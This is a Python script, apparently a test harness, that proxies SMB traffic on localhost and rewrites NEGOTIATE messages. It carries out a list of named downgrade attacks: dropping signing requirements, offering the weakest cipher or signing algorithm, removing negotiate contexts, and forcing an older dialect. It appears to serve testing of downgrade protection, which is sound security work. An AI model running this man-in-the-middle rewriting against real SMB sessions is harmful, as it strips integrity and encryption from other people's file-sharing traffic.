# SPDX-License-Identifier: GPL-3.0-or-later
"""Somebody between client and server on TCP who rewrites NEGOTIATE.

Arguments: port to listen on, port of the server, what to do.  Prints a line for
each message that was changed; all others go through as they are."""
import socket
import struct
import sys
import threading

HEADER = 64
DIALECT, CIPHERS, SIGNING = 0x0311, 2, 8
# where the body of the request and of the response has what
REQUEST = {"mode": 4, "capabilities": 8, "contexts": 28, "count": 32}
RESPONSE = {"mode": 2, "dialect": 4, "count": 6, "capabilities": 24,
            "contexts": 60}


def u16(m, at):
    return struct.unpack_from("<H", m, at)[0]


def put(m, at, *values):
    struct.pack_into("<%dH" % len(values), m, at, *values)


def context(m, fields, kind):
    """Where the data of a negotiate context is, and its length."""
    at = struct.unpack_from("<I", m, HEADER + fields["contexts"])[0]
    for _ in range(u16(m, HEADER + fields["count"])):
        length = u16(m, at + 2)
        if u16(m, at) == kind:
            return at + 8, length
        at += (8 + length + 7) // 8 * 8
    raise ValueError("no context %d" % kind)


def ids(m, fields, kind, *wanted):
    """Another list of algorithms, as long as the old one."""
    at, _ = context(m, fields, kind)
    count = u16(m, at)
    put(m, at + 2, *(list(wanted) + [wanted[-1]] * count)[:count])


def only_older(m):
    for i in range(u16(m, HEADER + 2)):
        at = HEADER + 36 + 2 * i
        if u16(m, at) == DIALECT:
            put(m, at, 0x0302)


def rename(m, fields, kind):
    at, _ = context(m, fields, kind)
    put(m, at - 8, 0x7777)


# name: of the request or the response, and how
ATTACKS = {
    "nothing": (None, None),
    "no signing wanted": ("request", lambda m: put(
        m, HEADER + REQUEST["mode"], 0)),
    "weakest cipher offered": ("request", lambda m: ids(
        m, REQUEST, CIPHERS, 1)),
    "no cipher offered": ("request", lambda m: rename(m, REQUEST, CIPHERS)),
    "weakest signing offered": ("request", lambda m: ids(
        m, REQUEST, SIGNING, 0)),
    "no signing algorithm offered": ("request", lambda m: rename(
        m, REQUEST, SIGNING)),
    "older dialects offered": ("request", only_older),
    "no capabilities": ("request", lambda m: struct.pack_into(
        "<I", m, HEADER + REQUEST["capabilities"], 0)),
    "no signing required": ("response", lambda m: put(
        m, HEADER + RESPONSE["mode"], 1)),
    "another cipher chosen": ("response", lambda m: ids(
        m, RESPONSE, CIPHERS, 1)),
    "no cipher chosen": ("response", lambda m: rename(m, RESPONSE, CIPHERS)),
    "another signing chosen": ("response", lambda m: ids(
        m, RESPONSE, SIGNING, 0)),
    "an older dialect chosen": ("response", lambda m: put(
        m, HEADER + RESPONSE["dialect"], 0x0302)),
    "no capabilities granted": ("response", lambda m: struct.pack_into(
        "<I", m, HEADER + RESPONSE["capabilities"], 0)),
}


def receive(s, count):
    data = b""
    while len(data) < count:
        more = s.recv(count - len(data))
        if not more:
            return None
        data += more
    return data


def carry(source, target, side, attack):
    """Messages of one direction, until it ends."""
    where, how = ATTACKS[attack]
    try:
        while True:
            head = receive(source, 4)
            body = head and receive(source, int.from_bytes(head[1:], "big"))
            if not body:
                break
            if where == side and body[:4] == b"\xfeSMB" and \
                    u16(body, 12) == 0:
                changed = bytearray(body)
                how(changed)
                if changed != body:
                    print("changed", flush=True)
                body = bytes(changed)
            target.sendall(head + body)
    except OSError:
        pass
    for s in (source, target):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def main():
    listen, server, attack = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    door = socket.create_server(("127.0.0.1", listen))
    print("ready", flush=True)
    while True:
        client, _ = door.accept()
        far = socket.create_connection(("127.0.0.1", server))
        for args in ((client, far, "request"), (far, client, "response")):
            threading.Thread(target=carry, args=args + (attack,),
                             daemon=True).start()


if len(sys.argv) == 1:
    print("\n".join(ATTACKS))
else:
    main()
